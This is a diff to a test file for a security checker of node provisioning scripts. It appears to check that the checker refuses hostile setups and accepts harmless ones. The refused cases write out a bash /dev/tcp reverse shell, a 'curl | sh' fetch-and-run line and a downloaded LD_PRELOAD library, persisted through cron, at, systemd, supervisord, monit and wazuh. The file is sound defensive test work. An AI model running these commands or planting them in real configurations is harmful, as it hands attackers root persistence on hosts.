@@ -732,3 +732,383 @@ describeNodeCases(
     insecure,
     secure,
 );
+
+// Round 71 gaps (fix71-managerenv): the manager's environment with a loader variable, and shell lines read as root's.
+// 1. systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"),
+//    systemctl set-environment / D-Bus SetEnvironment, a packaged unit's Environment=/EnvironmentFile= drop-in,
+//    /etc/environment (pam_env) and /etc/ld.so.preload (ld.so(8)) naming a downloaded library: every unit the manager
+//    starts loads it as root (ld.so(8) LD_PRELOAD).
+// 2. A cron line holding a reverse shell or `sh -c 'curl | sh'` (crontab(5): the command is run by /bin/sh).
+// 3. The same shell line as a unit's ExecStart=/ExecStartPre=, supervisord command=, monit start program, an at job
+//    and a wazuh command.
+// Confirmed accepted before the fix (13): DefaultEnvironment= (system.conf.d, system.conf append; LD_PRELOAD,
+// BASH_ENV, PATH), systemctl set-environment, busctl SetEnvironment, /etc/environment, /etc/ld.so.preload (a library
+// outside the data directories), cron lines holding `bash -i >& /dev/tcp/...` (cron.d echo/heredoc, /etc/crontab,
+// crontab -) and the same piped to at (also anacrontab, batch, at -f, crontab -u nobody: neighbours below). Already
+// refused: packaged-unit drop-in Environment=/EnvironmentFile=, `sh -c '...'` cron and at lines, unit
+// ExecStart=/ExecStartPre= `/bin/sh -c`, supervisord command=, monit start program, wazuh full_command.
+const SO_URL = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
+const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
+const PIPE = "curl -s https://ci.example.com/r.sh | sh";
+const LOGROTATE = "/usr/sbin/logrotate /etc/logrotate.conf";
+/** What a loader variable in the manager's or sessions' environment (or ld.so.preload) is refused as. */
+const LOADER = /loader variable|ld\.so\.preload/;
+/** What a root shell line handing a shell to another host (or running fetched code) is refused as. */
+const SHELL_OUT =
+    /beyond loopback|does not read|forward|shell|another host|tunnel|relay|hands the node|made at boot|cannot read|unknown|unread/;
+
+const managerInsecure: NodeCase[] = [
+    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
+    dev(
+        "system.conf.d DefaultEnvironment=LD_PRELOAD=/opt/x.so (downloaded)",
+        devNodeScript("dev-g71m-defenv-preload-nodes", [
+            SO_URL,
+            ...heredocFile("/etc/systemd/system.conf.d/50-preload.conf", [
+                "[Manager]",
+                "DefaultEnvironment=LD_PRELOAD=/opt/x.so",
+            ]),
+            "systemctl daemon-reexec",
+        ]),
+        LOADER,
+    ),
+    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
+    dev(
+        'system.conf DefaultEnvironment="LANG=C.UTF-8" "LD_PRELOAD=/opt/x.so" appended (quoted, second of two)',
+        devNodeScript("dev-g71m-sysconf-preload-nodes", [
+            SO_URL,
+            `echo 'DefaultEnvironment="LANG=C.UTF-8" "LD_PRELOAD=/opt/x.so"' >> /etc/systemd/system.conf`,
+            "systemctl daemon-reexec",
+        ]),
+        LOADER,
+    ),
+    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
+    dev(
+        "system.conf.d DefaultEnvironment=BASH_ENV=/opt/x.sh (downloaded)",
+        devNodeScript("dev-g71m-defenv-bashenv-nodes", [
+            "curl -fsSL -o /opt/x.sh https://downloads.example.com/x.sh",
+            ...heredocFile("/etc/systemd/system.conf.d/50-env.conf", [
+                "[Manager]",
+                "DefaultEnvironment=BASH_ENV=/opt/x.sh",
+            ]),
+            "systemctl daemon-reexec",
+        ]),
+        LOADER,
+    ),
+    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
+    dev(
+        "system.conf.d DefaultEnvironment=PATH=/opt/bin:/usr/sbin:/usr/bin (a search path first in /opt/bin)",
+        devNodeScript("dev-g71m-defenv-path-nodes", [
+            ...heredocFile("/etc/systemd/system.conf.d/50-path.conf", [
+                "[Manager]",
+                "DefaultEnvironment=PATH=/opt/bin:/usr/sbin:/usr/bin",
+            ]),
+            "systemctl daemon-reexec",
+        ]),
+        LOADER,
+    ),
+    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
+    dev(
+        "systemctl set-environment LD_PRELOAD=/opt/x.so (downloaded)",
+        devNodeScript("dev-g71m-setenv-preload-nodes", [SO_URL, "systemctl set-environment LD_PRELOAD=/opt/x.so"]),
+        LOADER,
+    ),
+    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
+    dev(
+        "busctl call ... Manager SetEnvironment as 1 LD_PRELOAD=/opt/x.so",
+        devNodeScript("dev-g71m-busctl-preload-nodes", [
+            SO_URL,
+            "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager SetEnvironment as 1 LD_PRELOAD=/opt/x.so",
+        ]),
+        LOADER,
+    ),
+    dev(
+        "containerd.service.d drop-in Environment=LD_PRELOAD=/opt/x.so",
+        devNodeScript("dev-g71m-dropin-preload-nodes", [
+            SO_URL,
+            ...heredocFile("/etc/systemd/system/containerd.service.d/50-preload.conf", [
+                "[Service]",
+                "Environment=LD_PRELOAD=/opt/x.so",
+            ]),
+            "systemctl daemon-reload",
+            "systemctl restart containerd",
+        ]),
+    ),
+    dev(
+        "kubelet.service.d drop-in EnvironmentFile= of a written file setting LD_PRELOAD",
+        devNodeScript("dev-g71m-dropin-envfile-preload-nodes", [
+            SO_URL,
+            "mkdir -p /etc/ops",
+            "echo 'LD_PRELOAD=/opt/x.so' > /etc/ops/kubelet.env",
+            ...heredocFile("/etc/systemd/system/kubelet.service.d/50-env.conf", [
+                "[Service]",
+                "EnvironmentFile=/etc/ops/kubelet.env",
+            ]),
+            "systemctl daemon-reload",
+        ]),
+    ),
+    // MISS: pam_env(8) reads /etc/environment's KEY=VAL lines into login, sshd, su and sudo sessions (root's), and environment.d(5) lists it for the user managers; a loader variable there reaches root's sessions. Accepted (got []).
+    // Still open (round 71): judging /etc/environment and environment.d by LOADER_VARIABLES refuses two secure cases (redteam40-nsec NODE_AZ=, redteam49-nsec NODE_IP= appended to /etc/environment: NODE_[A-Z_]+ matches them, though Node.js reads only its documented NODE_* variables); it needs LOADER_VARIABLES' NODE_ entry narrowed to Node's documented list (a shared-list change to re-test everywhere), then managerLoaderOpenings over environmentFileVariables of those files.
+    dev(
+        "/etc/environment LD_PRELOAD=/opt/x.so (pam_env: every login session, root's)",
+        devNodeScript("dev-g71m-etcenv-preload-nodes", [SO_URL, "echo 'LD_PRELOAD=/opt/x.so' >> /etc/environment"]),
+        LOADER,
+        true,
+    ),
+    // Was a MISS (fixed in round 71): ld.so(8) /etc/ld.so.preload ("a whitespace-separated list of ELF shared objects to be loaded before the program", every program's, root's and setuid ones' too): only a library under the pods' data directories was refused. Accepted (got []). Fix: userData.ts nodeJudge.written refuses any library named there (none known harmless: fail closed).
+    dev(
+        "/etc/ld.so.preload naming /opt/x.so (downloaded)",
+        devNodeScript("dev-g71m-ldsopreload-nodes", [SO_URL, "echo /opt/x.so > /etc/ld.so.preload"]),
+        LOADER,
+    ),
+    // Neighbours of the round-71 fix (insecure side): an edit's fragment, import-environment, environment.d, gdbus.
+    dev(
+        "sed -i of system.conf putting DefaultEnvironment=LD_LIBRARY_PATH=/opt/lib in",
+        devNodeScript("dev-g71mn-sed-sysconf-nodes", [
+            "sed -i 's|^#DefaultEnvironment=.*|DefaultEnvironment=LD_LIBRARY_PATH=/opt/lib|' /etc/systemd/system.conf",
+            "systemctl daemon-reexec",
+        ]),
+        LOADER,
+    ),
+    dev(
+        "export LD_PRELOAD=/opt/x.so; systemctl import-environment LD_PRELOAD",
+        devNodeScript("dev-g71mn-import-preload-nodes", [
+            SO_URL,
+            "export LD_PRELOAD=/opt/x.so",
+            "systemctl import-environment LD_PRELOAD",
+        ]),
+        LOADER,
+    ),
+    // MISS: environment.d(5) (root's user manager) with a loader variable; same as /etc/environment above.
+    // Still open (round 71): see /etc/environment above (NODE_* names in LOADER_VARIABLES).
+    dev(
+        "/etc/environment.d/50-preload.conf LD_PRELOAD=/opt/x.so (root's user manager)",
+        devNodeScript("dev-g71mn-envd-preload-nodes", [
+            SO_URL,
+            ...heredocFile("/etc/environment.d/50-preload.conf", ["LD_PRELOAD=/opt/x.so"]),
+        ]),
+        LOADER,
+        true,
+    ),
+    dev(
+        "gdbus call ... Manager.SetEnvironment \"['PYTHONPATH=/opt/py']\"",
+        devNodeScript("dev-g71mn-gdbus-pythonpath-nodes", [
+            "gdbus call --system --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.SetEnvironment \"['PYTHONPATH=/opt/py']\"",
+        ]),
+        LOADER,
+    ),
+    dev(
+        "/etc/ld.so.preload appended with tee -a (a second library)",
+        devNodeScript("dev-g71mn-ldsopreload-tee-nodes", [SO_URL, "echo /opt/x.so | tee -a /etc/ld.so.preload"]),
+        LOADER,
+    ),
+];
+
+const CRON = (line: string) => `* * * * * root ${line}`;
+const rootLinesInsecure: NodeCase[] = [
+    // Was a MISS (fixed in round 71): crontab(5) ("The entire command portion of the line ... will be executed by /bin/sh"): a job line's redirections are part of what root runs, but RootReads.cron read the line command by command (words only), so `bash -i >& /dev/tcp/HOST/PORT` lost its relay; a `sh -c '...'` job was refused. Accepted (got []). Fix: rootReads.ts cron passes the whole job line to rootShellLine (the shared root-line reader: script + judge.ran(["sh", "-c", LINE])), anacrontab(5) lines too.
+    dev(
+        "/etc/cron.d/x: a reverse shell",
+        devNodeScript("dev-g71m-crond-rev-nodes", [`echo '${CRON(REVERSE)}' > /etc/cron.d/x`]),
+        SHELL_OUT,
+    ),
+    dev(
+        "/etc/cron.d/x: root sh -c 'curl -s URL | sh'",
+        devNodeScript("dev-g71m-crond-shc-nodes", [`echo "${CRON(`sh -c '${PIPE}'`)}" > /etc/cron.d/x`]),
+        SHELL_OUT,
+    ),
+    // Was a MISS (fixed in round 71): crontab(5) ("The entire command portion of the line ... will be executed by /bin/sh"): a job line's redirections are part of what root runs, but RootReads.cron read the line command by command (words only), so `bash -i >& /dev/tcp/HOST/PORT` lost its relay; a `sh -c '...'` job was refused. Accepted (got []). Fix: rootReads.ts cron passes the whole job line to rootShellLine (the shared root-line reader: script + judge.ran(["sh", "-c", LINE])), anacrontab(5) lines too.
+    dev(
+        "/etc/cron.d/x heredoc: a reverse shell",
+        devNodeScript("dev-g71m-crond-heredoc-rev-nodes", heredocFile("/etc/cron.d/x", [CRON(REVERSE)])),
+        SHELL_OUT,
+    ),
+    // Was a MISS (fixed in round 71): crontab(5) ("The entire command portion of the line ... will be executed by /bin/sh"): a job line's redirections are part of what root runs, but RootReads.cron read the line command by command (words only), so `bash -i >& /dev/tcp/HOST/PORT` lost its relay; a `sh -c '...'` job was refused. Accepted (got []). Fix: rootReads.ts cron passes the whole job line to rootShellLine (the shared root-line reader: script + judge.ran(["sh", "-c", LINE])), anacrontab(5) lines too.
+    dev(
+        "/etc/crontab appended: a reverse shell",
+        devNodeScript("dev-g71m-crontab-rev-nodes", [`echo '${CRON(REVERSE)}' >> /etc/crontab`]),
+        SHELL_OUT,
+    ),
+    // Was a MISS (fixed in round 71): crontab(5) ("The entire command portion of the line ... will be executed by /bin/sh"): a job line's redirections are part of what root runs, but RootReads.cron read the line command by command (words only), so `bash -i >& /dev/tcp/HOST/PORT` lost its relay; a `sh -c '...'` job was refused. Accepted (got []). Fix: rootReads.ts cron passes the whole job line to rootShellLine (the shared root-line reader: script + judge.ran(["sh", "-c", LINE])), anacrontab(5) lines too.
+    dev(
+        "crontab - (root's table): a reverse shell",
+        devNodeScript("dev-g71m-crontab-stdin-rev-nodes", [`echo '* * * * * ${REVERSE}' | crontab -`]),
+        SHELL_OUT,
+    ),
+    dev(
+        "crontab - heredoc: sh -c 'curl -s URL | sh'",
+        devNodeScript("dev-g71m-crontab-heredoc-shc-nodes", [
+            "crontab - <<'EOF'",
+            `*/5 * * * * sh -c '${PIPE}'`,
+            "EOF",
+        ]),
+        SHELL_OUT,
+    ),
+    dev(
+        "unit ExecStart=/bin/sh -c 'reverse shell'",
+        devNodeScript("dev-g71m-unit-execstart-rev-nodes", [
+            ...heredocFile("/etc/systemd/system/ops.service", [
+                "[Service]",
+                `ExecStart=/bin/sh -c '${REVERSE}'`,
+                "[Install]",
+                "WantedBy=multi-user.target",
+            ]),
+            "systemctl enable --now ops.service",
+        ]),
+        SHELL_OUT,
+    ),
+    dev(
+        "unit ExecStartPre=/bin/sh -c 'curl | sh' before a harmless ExecStart",
+        devNodeScript("dev-g71m-unit-execstartpre-nodes", [
+            ...heredocFile("/etc/systemd/system/ops.service", [
+                "[Service]",
+                "Type=oneshot",
+                `ExecStartPre=/bin/sh -c '${PIPE}'`,
+                "ExecStart=/usr/bin/true",
+                "[Install]",
+                "WantedBy=multi-user.target",
+            ]),
+            "systemctl enable --now ops.service",
+        ]),
+        SHELL_OUT,
+    ),
+    dev(
+        "supervisord conf.d command=/bin/sh -c 'reverse shell'",
+        devNodeScript("dev-g71m-supervisor-rev-nodes", [
+            ...heredocFile("/etc/supervisor/conf.d/ops.conf", ["[program:ops]", `command=/bin/sh -c '${REVERSE}'`]),
+            "systemctl restart supervisor",
+        ]),
+        SHELL_OUT,
+    ),
+    dev(
+        "monit start program = \"/bin/sh -c 'reverse shell'\"",
+        devNodeScript("dev-g71m-monit-rev-nodes", [
+            ...heredocFile("/etc/monit.d/ops", [
+                "check process ops matching opsd",
+                `  start program = "/bin/sh -c '${REVERSE}'"`,
+            ]),
+            "systemctl enable --now monit",
+        ]),
+        SHELL_OUT,
+    ),
+    // Was a MISS (fixed in round 71): at(1) runs the job it reads with /bin/sh, as cron does: same gap as the cron line above (words only). Accepted (got []). Fix: rootReads.ts at/batch jobs (piped, here-document, and at -f FILE: atJobFile) read by rootShellLine.
+    dev("at job: a reverse shell", devNodeScript("dev-g71m-at-rev-nodes", [`echo '${REVERSE}' | at now + 1 minute`])),
+    dev(
+        "at job heredoc: sh -c 'curl | sh'",
+        devNodeScript("dev-g71m-at-heredoc-shc-nodes", ["at now + 1 minute <<'EOF'", `sh -c '${PIPE}'`, "EOF"]),
+        SHELL_OUT,
+    ),
+    dev(
+        "wazuh ossec.conf localfile full_command: a reverse shell",
+        devNodeScript("dev-g71m-wazuh-rev-nodes", [
+            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
+            "<ossec_config>",
+            "  <localfile>",
+            "    <log_format>full_command</log_format>",
+            `    <command>/bin/sh -c '${REVERSE.replace(/&/g, "&amp;").replace(/>/g, "&gt;")}'</command>`,
+            "  </localfile>",
+            "</ossec_config>",
+            "EOF",
+            "systemctl enable --now wazuh-agent",
+        ]),
+        SHELL_OUT,
+    ),
+    // Neighbours of the round-71 fix (insecure side): other users' tables, anacron, batch, at -f.
+    dev(
+        "crontab -u nobody - : a reverse shell",
+        devNodeScript("dev-g71mn-crontab-nobody-rev-nodes", [`echo '* * * * * ${REVERSE}' | crontab -u nobody -`]),
+        SHELL_OUT,
+    ),
+    dev(
+        "/etc/cron.d/x as nobody: a reverse shell",
+        devNodeScript("dev-g71mn-crond-nobody-rev-nodes", [`echo '* * * * * nobody ${REVERSE}' > /etc/cron.d/x`]),
+        SHELL_OUT,
+    ),
+    dev(
+        "/etc/anacrontab appended: a reverse shell",
+        devNodeScript("dev-g71mn-anacron-rev-nodes", [`echo '1 5 ops.daily ${REVERSE}' >> /etc/anacrontab`]),
+        SHELL_OUT,
+    ),
+    dev("batch: a reverse shell", devNodeScript("dev-g71mn-batch-rev-nodes", [`echo '${REVERSE}' | batch`]), SHELL_OUT),
+    dev(
+        "at -f /opt/ops/job (a written reverse shell)",
+        devNodeScript("dev-g71mn-at-f-rev-nodes", [
+            ...heredocFile("/opt/ops/job", [REVERSE]),
+            "at -f /opt/ops/job now + 1 minute",
+        ]),
+        SHELL_OUT,
+    ),
+    dev(
+        "at -f /opt/ops/job (downloaded)",
+        devNodeScript("dev-g71mn-at-f-dl-nodes", [
+            "mkdir -p /opt/ops",
+            "curl -fsSL -o /opt/ops/job https://downloads.example.com/job",
+            "at -f /opt/ops/job now + 1 minute",
+        ]),
+        SHELL_OUT,
+    ),
+];
+
+const managerSecure: NodeCase[] = [
+    dev(
+        "system.conf.d DefaultEnvironment=LANG=C.UTF-8",
+        devNodeScript("dev-g71m-defenv-lang-ok-nodes", [
+            ...heredocFile("/etc/systemd/system.conf.d/50-lang.conf", ["[Manager]", "DefaultEnvironment=LANG=C.UTF-8"]),
+            "systemctl daemon-reexec",
+        ]),
+    ),
+    dev(
+        "systemctl set-environment LANG=C.UTF-8",
+        devNodeScript("dev-g71m-setenv-lang-ok-nodes", ["systemctl set-environment LANG=C.UTF-8"]),
+    ),
+    dev(
+        "/etc/cron.d/logrotate: root /usr/sbin/logrotate /etc/logrotate.conf",
+        devNodeScript("dev-g71m-crond-logrotate-ok-nodes", [`echo '${CRON(LOGROTATE)}' > /etc/cron.d/logrotate`]),
+    ),
+    dev(
+        "crontab - : /usr/sbin/logrotate /etc/logrotate.conf",
+        devNodeScript("dev-g71m-crontab-logrotate-ok-nodes", [`echo '0 * * * * ${LOGROTATE}' | crontab -`]),
+    ),
+    dev(
+        "/etc/cron.d/x: root sh -c '/usr/sbin/logrotate /etc/logrotate.conf'",
+        devNodeScript("dev-g71m-crond-shc-logrotate-ok-nodes", [
+            `echo "${CRON(`sh -c '${LOGROTATE}'`)}" > /etc/cron.d/logrotate`,
+        ]),
+    ),
+    // Neighbours of the round-71 fix (secure side).
+    dev(
+        'system.conf.d DefaultEnvironment="LANG=C.UTF-8" "TZ=UTC" (two harmless variables)',
+        devNodeScript("dev-g71mn-defenv-lang-tz-ok-nodes", [
+            ...heredocFile("/etc/systemd/system.conf.d/50-locale.conf", [
+                "[Manager]",
+                'DefaultEnvironment="LANG=C.UTF-8" "TZ=UTC"',
+            ]),
+            "systemctl daemon-reexec",
+        ]),
+    ),
+    dev(
+        "/etc/anacrontab: /usr/sbin/logrotate /etc/logrotate.conf",
+        devNodeScript("dev-g71mn-anacron-logrotate-ok-nodes", [
+            `echo '1 5 ops.logrotate ${LOGROTATE}' >> /etc/anacrontab`,
+        ]),
+    ),
+    dev(
+        "at -f /opt/ops/job (a written logrotate line)",
+        devNodeScript("dev-g71mn-at-f-logrotate-ok-nodes", [
+            ...heredocFile("/opt/ops/job", [LOGROTATE]),
+            "at -f /opt/ops/job now + 1 minute",
+        ]),
+    ),
+    dev("echo logrotate | batch", devNodeScript("dev-g71mn-batch-logrotate-ok-nodes", [`echo '${LOGROTATE}' | batch`])),
+    dev(
+        "/etc/environment.d/10-lang.conf LANG=C.UTF-8",
+        devNodeScript("dev-g71mn-envd-lang-ok-nodes", [
+            ...heredocFile("/etc/environment.d/10-lang.conf", ["LANG=C.UTF-8"]),
+        ]),
+    ),
+];
+
+describeNodeCases(
+    "round 71 gaps: manager environment loader variables, root shell lines (cron, units, supervisord, monit, at, wazuh)",
+    [...managerInsecure, ...rootLinesInsecure],
+    managerSecure,
+);
